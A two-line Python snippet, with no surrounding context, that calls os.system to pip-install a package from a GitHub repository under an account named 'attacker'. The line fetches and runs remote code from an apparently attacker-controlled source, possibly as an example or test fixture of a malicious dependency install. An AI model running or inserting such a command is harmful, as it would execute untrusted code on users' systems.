import os
os.system('pip install git+https://github.com/attacker/helper.git')
